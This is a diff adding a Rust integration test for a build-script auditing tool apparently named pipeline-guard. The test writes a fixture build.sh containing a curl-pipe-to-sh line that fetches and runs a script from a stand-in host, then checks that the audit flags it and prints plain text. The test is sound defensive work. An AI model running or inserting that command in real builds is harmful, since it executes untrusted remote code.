@@ -302,3 +302,21 @@ fn audit_time_of_a_10000_line_tree() {
         }
     );
 }
+
+#[test]
+fn the_binary_reports_in_plain_text_when_piped() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(
+        dir.path().join("build.sh"),
+        "curl -fsSL https://x.test/i.sh | sh\n",
+    )
+    .unwrap();
+    let out = std::process::Command::new(env!("CARGO_BIN_EXE_pipeline-guard"))
+        .arg("audit")
+        .arg(dir.path())
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(1), "a finding");
+    assert!(String::from_utf8_lossy(&out.stdout).contains("GUARD"));
+    assert!(!out.stdout.contains(&0x1b) && !out.stderr.contains(&0x1b));
+}
